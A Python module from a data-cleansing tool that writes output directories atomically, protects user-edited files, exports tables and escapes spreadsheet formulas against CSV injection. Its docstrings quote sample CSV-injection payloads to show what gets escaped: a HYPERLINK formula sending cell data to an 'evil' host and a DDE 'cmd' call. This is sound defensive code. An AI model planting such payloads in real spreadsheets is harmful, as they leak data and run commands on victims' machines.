"""Write a run's output directory so that it is either complete or absent.

Everything is written into a hidden sibling directory and renamed into place at the end; a crash,
Ctrl-C or SIGTERM leaves the previous result (or nothing) where the user looks, never half a result.

An existing ``--out`` directory is replaced only when datavask wrote it and nobody has added or
changed a file in it since: every run directory carries :data:`MARKER`, the list of the files the
run wrote with their sizes and modification times. A directory holding anything else — a user's
notes, a worklist edited in place, the output of an older datavask without the marker — is refused
(exit 2), never deleted.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import re
import secrets
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import polars as pl

from datavask.connectors.errors import InputError
from datavask.connectors.scratch import committing, owned_dir, remove_stale

MARKER = ".datavask-run.json"
OUTPUT_ZSTD_LEVEL: Final = 1  # the Parquet outputs' zstd level (write_table, sink_parquet_parts)
# The hidden sibling ``.<name>.partial-xxxxxxxx`` must fit the file system's 255-byte names.
_MAX_NAME = 255 - len("..partial-xxxxxxxx")


def _manifest(root: Path) -> dict[str, list[int]]:
    """``relative path → [size, mtime_ns]`` of every entry below ``root`` except the marker.

    Directories count as entries too, so an empty folder a user added is not overlooked; symbolic
    links are recorded as links, never followed.
    """
    entries = {}
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(top, name)
            if path.parent == root and name == MARKER:
                continue
            stat = path.lstat()
            size = 0 if name in dirs else stat.st_size  # a directory's size and time change
            mtime = 0 if name in dirs else stat.st_mtime_ns  # with its files, which are listed
            entries[path.relative_to(root).as_posix()] = [size, mtime]
    return entries


def mark_run_dir(root: Path) -> None:
    """Record every file below ``root`` as datavask's (done last, and again after a re-render),
    replaced in one rename: a run stopped while writing it leaves the old record whole."""
    text = json.dumps({"written_by": "datavask", "files": _manifest(root)}, indent=1) + "\n"
    replace_atomically(root / MARKER, lambda temporary: temporary.write_text(text, "utf-8"))


def foreign_files(root: Path) -> list[str]:
    """Files below a run directory that datavask did not write or that changed since; [] if none.

    Raises InputError when ``root`` is not a run directory datavask marked.
    """
    try:
        recorded = json.loads((root / MARKER).read_text(encoding="utf-8"))["files"]
    except (OSError, ValueError, KeyError, TypeError):
        raise InputError(
            f"--out {root} exists and is not a directory datavask wrote (no {MARKER}); "
            "choose a new or empty directory"
        ) from None
    present = _manifest(root)
    return sorted(name for name, stat in present.items() if recorded.get(name) != stat)


def check_unedited(run_dir: Path, names: tuple[str, ...]) -> None:
    """InputError (one line) unless each of ``names`` below ``run_dir`` is absent or unchanged
    since datavask wrote it, by the same record :func:`foreign_files` checks ``--out`` against.

    ``datavask report`` replaces a run's ``report.html`` and ``worklist.xlsx``: a worklist a user
    edited in place (``FIXED by Lise`` typed into A2) is theirs, and is refused as ``--out``
    refuses it, never overwritten. A run without :data:`MARKER` (an older datavask's) cannot tell
    an edit, so its files are refused too; once they are moved away, nothing is lost by writing.
    """
    there = [name for name in names if (run_dir / name).exists()]
    if not there:
        return
    try:
        foreign = set(foreign_files(run_dir))
    except InputError:
        raise InputError(
            f"{run_dir} has no {MARKER} (an older datavask's run), so an edit to "
            f"{', '.join(there)} cannot be told; move or rename them and run again — datavask "
            "never overwrites them"
        ) from None
    changed = [name for name in there if name in foreign]
    if changed:
        raise InputError(
            f"{run_dir} holds {', '.join(changed)} changed since datavask wrote "
            f"{'it' if len(changed) == 1 else 'them'}; move or rename "
            f"{'it' if len(changed) == 1 else 'them'} and run again — datavask never overwrites "
            "a file you edited"
        )


def check_out_dir(out: Path) -> None:
    """Refuse, before any work, an ``--out`` that cannot be written or must not be replaced."""
    for part in out.parts:
        limit = _MAX_NAME if part == out.name else 255
        if len(os.fsencode(part)) > limit:
            raise InputError(
                f"--out {str(out)[:40]}…: the name {part[:20]}… is {len(os.fsencode(part))} "
                f"bytes long; at most {limit} fit"
            )
    if out.is_symlink() and not out.exists():
        raise InputError(f"--out {out} is a symbolic link to nothing")
    if out.exists() and not out.is_dir():
        raise InputError(f"--out {out} exists and is not a directory")
    if out.exists() and any(out.iterdir()):
        foreign = foreign_files(out)
        if foreign:
            shown = ", ".join(foreign[:3]) + (
                f" and {len(foreign) - 3} more" if len(foreign) > 3 else ""
            )
            raise InputError(
                f"--out {out} holds files datavask did not write or that were changed since "
                f"({shown}); move them out or choose another --out — datavask never deletes them"
            )
    parent = _existing_ancestor(out.parent)
    if not os.access(parent, os.W_OK | os.X_OK):
        raise InputError(f"--out {out}: cannot create it, {parent} is not writable")
    # The modes say yes where the file system says no: to root, /sys and /proc look writable
    # (``--out /sys/foo`` failed with PermissionError only when the run's outputs were written).
    # Creating a directory there tells, as the run's own will.
    try:
        os.rmdir(tempfile.mkdtemp(prefix=f".{out.name}.probe-", dir=parent))
    except OSError as exc:
        reason = exc.strerror or type(exc).__name__
        raise InputError(
            f"--out {out}: cannot create it, {parent} is not writable ({reason})"
        ) from None


def _existing_ancestor(path: Path) -> Path:
    path = path.absolute()
    while not path.exists() and path != path.parent:
        path = path.parent
    if not path.is_dir():
        raise InputError(f"--out: {path} is a file, not a directory")
    return path


def remove_stale_partials(out: Path) -> list[Path]:
    """Half-written outputs beside ``out`` whose run was killed (see :mod:`connectors.scratch`)."""
    parent = out.parent if out.parent.is_dir() else None
    if parent is None:
        return []
    removed = remove_stale(parent, ".*.partial-*", legacy=_only_run_files)
    # An .old-* directory is a replaced result caught between two renames: only ever deleted.
    for old in parent.glob(".*.old-*"):
        if old.is_dir() and (old / MARKER).exists():
            shutil.rmtree(old, ignore_errors=True)
            removed.append(old)
    return removed


# What a run writes into its output directory (older versions wrote no marker).
_RUN_FILES = frozenset(
    {"records", "golden", "pairs", "changes", "reimport", "report", "run", "worklist"}
)


def _only_run_files(path: Path) -> bool:
    return all(entry.name.split(".")[0] in _RUN_FILES for entry in path.iterdir())


def replace_atomically(path: Path, write: Callable[[Path], Any]) -> Path:
    """``write`` to a hidden temporary sibling (same suffix, so writers that go by it still do),
    renamed over ``path``: never half a file, and a task that Dask runs again (a lost worker) or
    a second process writes its own temporary, never into another's."""
    temporary = path.with_name(f".{os.getpid()}-{secrets.token_hex(3)}-{path.name}")
    try:
        write(temporary)
        os.replace(temporary, path)
    finally:
        temporary.unlink(missing_ok=True)
    return path


@contextlib.contextmanager
def atomic_dir(out: Path) -> Iterator[Path]:
    """Yield a temporary directory that becomes ``out`` when the block finishes without error."""
    check_out_dir(out)
    try:
        out.parent.mkdir(parents=True, exist_ok=True)
    except OSError as exc:
        raise InputError(f"--out {out}: cannot create {out.parent} ({exc.strerror})") from None
    try:
        with owned_dir(out.parent, f".{out.name}.partial-", private=False) as tmp:
            yield tmp
            (tmp / ".datavask-owner").unlink()  # the lock file stays with the scratch copy only
            mark_run_dir(tmp)
            _fsync_tree(tmp)
            with committing():
                check_out_dir(out)  # a file added while the run was working is kept, too
                _swap_into_place(tmp, out)
    except OSError as exc:
        # The directory refused the output after all (its permissions changed during the run):
        # the user's to fix, one line. A full disk keeps its own message (flows.cli).
        if exc.errno == errno.ENOSPC or not _under(exc.filename, out.parent):
            raise
        reason = exc.strerror or type(exc).__name__
        raise InputError(f"--out {out}: cannot write it in {out.parent} ({reason})") from exc


def _under(filename: object, directory: Path) -> bool:
    """Whether an error's ``filename`` is ``directory`` or a path below it."""
    if not isinstance(filename, str | os.PathLike):
        return False
    path, directory = Path(os.path.abspath(filename)), Path(os.path.abspath(directory))
    return path == directory or directory in path.parents


def _swap_into_place(tmp: Path, out: Path) -> None:
    if not out.exists():
        tmp.rename(out)
        return
    old = out.parent / f".{out.name}.old-{tmp.name.rsplit('-', 1)[-1]}"
    out.rename(old)
    try:
        tmp.rename(out)
    except OSError:
        old.rename(out)
        raise
    shutil.rmtree(old, ignore_errors=True)


def _fsync_tree(root: Path) -> None:
    for path in root.rglob("*"):
        if path.is_file():
            with path.open("rb") as fh:
                os.fsync(fh.fileno())


def flat_for_text(frame: pl.DataFrame) -> pl.DataFrame:
    """Lists become ``a|b`` and structs JSON, so a frame fits CSV and Excel cells."""
    exprs = []
    for name, dtype in frame.schema.items():
        if isinstance(dtype, pl.List):
            exprs.append(pl.col(name).cast(pl.List(pl.String)).list.join("|").alias(name))
        elif isinstance(dtype, pl.Struct):
            exprs.append(pl.col(name).struct.json_encode().alias(name))
        else:
            exprs.append(pl.col(name))
    return frame.select(exprs)


# OWASP "CSV injection": a cell starting with one of these is read by Excel as a formula.
FORMULA_START: Final = r"^[=+\-@\t\r]"
# …and such a cell as the rule writes it, the apostrophe before it (``'-bent@x.dk``, ``'=SUM(A1)``,
# ``'\t…``): group 1 is the cell without it, a leading tab or carriage return dropped, as any
# surrounding whitespace of a value read is.
FORMULA_ESCAPED: Final = r"^'(?:[\t\r]+|([=+\-@]))"
# ... unless it is a number or phone number: digits, spaces and + - . , ( ) / only. Without a
# letter, a quote, "!" or "|" no function, cell reference or DDE call can be written, so Excel can
# at worst do arithmetic (it shows +4512345678 as 4512345678); "=" and "@" always start a formula.
# A phone number may end in its extension (``+45 4050 6080 lok. 12``, ``+1 212 555 0100 ext. 5``):
# one of those words, a full stop or space, and digits. No parenthesis follows a letter, so no
# function is called, and the full stop or space keeps the word from being a cell (``LOK12``).
PLAIN_NUMBER: Final = (
    r"^[+\-][0-9 .,()/+\-]*[0-9][0-9 .,()/+\-]*"
    r"(?:\s*(?i:lokal|lok|ext|x)(?:\.\s*|\s+)[0-9]+)?$"
)


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Text cells that Excel would run as a formula get a leading ``'`` (the OWASP rule).

    ``=HYPERLINK("http://evil/?"&A1)`` becomes ``'=HYPERLINK(…)``, shown as typed, never run;
    ``@SUM(A1)``, ``-2+3+cmd|' /C calc'!A0``, a leading tab or carriage return likewise. Numbers and
    phone numbers (``+4512345678``, ``-250.00``, ``+45 33 12 12 12``) are left as they are: a CRM
    loading them needs them unchanged, and they cannot carry a formula (see ``PLAIN_NUMBER``).
    """
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(neutralised(pl.col(text)).name.keep())


def neutralised(value: pl.Expr) -> pl.Expr:
    """``value`` as :func:`neutralise_formulas` writes it: ``-bent@x.dk`` → ``'-bent@x.dk``."""
    risky = value.str.contains(FORMULA_START) & ~value.str.contains(PLAIN_NUMBER)
    return pl.when(risky).then(pl.lit("'") + value).otherwise(value)


# A file datavask reads back itself (the reviewers' decisions file) must give every cell back as
# it was, so the apostrophe goes before a cell that merely looks escaped too (``'=X``, a record
# id of a CRM that loaded the re-import, is written ``''=X``), and reading takes exactly one off.
_ESCAPE_REVERSIBLY: Final = re.compile(r"^'*[=+\-@\t\r]")
_ESCAPED_REVERSIBLY: Final = re.compile(r"^'('*[=+\-@\t\r])")
_PLAIN_NUMBER: Final = re.compile(PLAIN_NUMBER)


def escape_cell(value: str) -> str:
    """``value`` with the OWASP ``'`` before it where Excel would run it, undone exactly by
    :func:`unescape_cell`: ``=1+1`` → ``'=1+1``, ``'@A1`` → ``''@A1``, ``+4512345678`` and ``10056``
    as they are.

    >>> [escape_cell(v) for v in ("=1+1", "'@A1", "+4512345678", "10056", "'x")]
    ["'=1+1", "''@A1", '+4512345678', '10056', "'x"]
    """
    if _ESCAPE_REVERSIBLY.match(value) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """A cell :func:`escape_cell` wrote, as it was before: ``'=1+1`` → ``=1+1``, ``''@A1`` →
    ``'@A1``; any other cell as it is (``'x``, ``=1+1`` written before the rule).

    >>> [unescape_cell(v) for v in ("'=1+1", "''@A1", "'x", "=1+1")]
    ['=1+1', "'@A1", "'x", '=1+1']
    """
    return _ESCAPED_REVERSIBLY.sub(r"\1", value, count=1)


def write_excel_csv(frame: pl.DataFrame, path: Path, *, header: bool = True) -> Path:
    """A CSV a Danish Excel opens by double-click: UTF-8 with BOM (æøå intact), ``;`` between
    fields (Danish Excel's list separator, as ``,`` is its decimal comma), formulas neutralised.

    ``header=False`` writes neither BOM nor header: a later part of one file written in parts.
    """
    neutralise_formulas(flat_for_text(frame)).write_csv(
        path, separator=";", include_bom=header, include_header=header
    )
    return path


def read_excel_csv(path: Path) -> pl.DataFrame:
    """Read back a :func:`write_excel_csv` file, every column as text."""
    return pl.read_csv(path, separator=";", infer_schema=False, encoding="utf8", glob=False)


def write_table(frame: pl.DataFrame, path: Path, *, header: bool = True) -> Path:
    """Write ``frame`` in the format the path's suffix names (.parquet, .csv or .xlsx).

    ``header=False``: a CSV without its header line (a later part of one file written in parts).
    """
    suffix = path.suffix
    if suffix == ".parquet":
        # zstd's fastest level: a fifth less CPU than its default for 4 % more bytes (200,000
        # records, golden rows and pairs: 0.95 s against 1.2 s, 33.5 MB against 32.0 MB)
        frame.write_parquet(path, statistics=False, compression_level=OUTPUT_ZSTD_LEVEL)
    elif suffix == ".csv":
        neutralise_formulas(flat_for_text(frame)).write_csv(path, include_header=header)
    elif suffix == ".xlsx":
        flat_for_text(frame).write_excel(path, autofit=False)
    else:
        raise ValueError(f"cannot write {suffix} tables")
    return path


def sink_parquet_parts(parts: list[Path], path: Path) -> Path:
    """One Parquet file of the rows of ``parts`` in order, streamed: never all rows in memory."""
    pl.scan_parquet(parts, glob=False).sink_parquet(
        path, statistics=False, compression_level=OUTPUT_ZSTD_LEVEL
    )
    return path


def concat_files(parts: list[Path], path: Path) -> Path:
    """The bytes of ``parts`` one after the other in ``path`` (a text file written in parts)."""
    with path.open("wb") as out:
        for part in parts:
            with part.open("rb") as source:
                shutil.copyfileobj(source, out, 1 << 20)
    return path


def write_json(data: dict[str, Any], path: Path) -> Path:
    """``data`` as JSON in ``path``, with a CPR number in any string (key or value) masked: the
    last line of defence for a value that reached run.json without passing the input's masking
    (a sheet named ``Kunder 0101901234`` once did)."""
    plain = json.loads(json.dumps(data, default=str))
    path.write_text(
        json.dumps(_masked_strings(plain), indent=2, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    return path


# A hex digest or id (the input's sha256, the run id, an alert id) is no text: never masked.
_HEX_ID: Final = re.compile(r"[0-9a-f]{20,}|[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}")


def _masked_strings(plain: Any) -> Any:
    """``plain`` (what ``json.loads`` gives) with :func:`mask_messages` applied to its strings,
    all in one pass."""
    from datavask.cleansing.cpr import mask_messages

    found: dict[str, None] = {}

    def collect(value: Any) -> None:
        if isinstance(value, str):
            if not _HEX_ID.fullmatch(value):
                found[value] = None
        elif isinstance(value, dict):
            for key, item in value.items():
                collect(key)
                collect(item)
        elif isinstance(value, list):
            for item in value:
                collect(item)

    collect(plain)
    texts = list(found)
    masked = dict(zip(texts, mask_messages(texts), strict=True)) if texts else {}

    def rebuild(value: Any) -> Any:
        if isinstance(value, str):
            return masked.get(value, value)
        if isinstance(value, dict):
            return {rebuild(key): rebuild(item) for key, item in value.items()}
        if isinstance(value, list):
            return [rebuild(item) for item in value]
        return value

    return rebuild(plain)


def check_run_dir(run_dir: Path) -> None:
    """InputError (one line) unless ``run_dir`` holds a readable run: run.json and its tables."""
    if not run_dir.is_dir():
        raise InputError(f"{run_dir} is not a directory")
    try:
        run = json.loads((run_dir / "run.json").read_text(encoding="utf-8"))
    except FileNotFoundError:
        raise InputError(f"{run_dir} is not a datavask run directory (no run.json)") from None
    except (OSError, UnicodeDecodeError, ValueError) as exc:
        raise InputError(f"{run_dir}/run.json is damaged ({type(exc).__name__})") from None
    if not isinstance(run, dict) or not all(
        isinstance(run.get(key, {}), dict) for key in ("counts", "flags", "input", "options")
    ):
        raise InputError(f"{run_dir}/run.json is damaged (not the object a run writes)")
    if not all(isinstance(n, int) for n in run.get("flags", {}).values()):
        raise InputError(f"{run_dir}/run.json is damaged (flag counts are not numbers)")
    for name in ("records.parquet", "pairs.parquet"):
        path = run_dir / name
        if name == "pairs.parquet" and not path.exists():
            continue
        try:
            pl.scan_parquet(path, glob=False).collect_schema()
        except FileNotFoundError:
            raise InputError(f"{run_dir} has no {name}; run the cleanse again") from None
        except Exception as exc:  # polars reports a damaged file in several ways
            raise InputError(f"{run_dir}/{name} is damaged ({type(exc).__name__})") from None


def note_rewritten(run_dir: Path, path: Path) -> None:
    """Record that datavask rewrote ``path`` in a marked run directory (``datavask report``).

    Only that file's entry changes: a file a user added stays unlisted, so it is never deleted.
    """
    marker = run_dir / MARKER
    try:
        recorded = json.loads(marker.read_text(encoding="utf-8"))
        files = recorded["files"]
    except (OSError, ValueError, KeyError, TypeError):
        return
    stat = path.stat()
    files[path.relative_to(run_dir).as_posix()] = [stat.st_size, stat.st_mtime_ns]
    marker.write_text(json.dumps(recorded, indent=1) + "\n", encoding="utf-8")
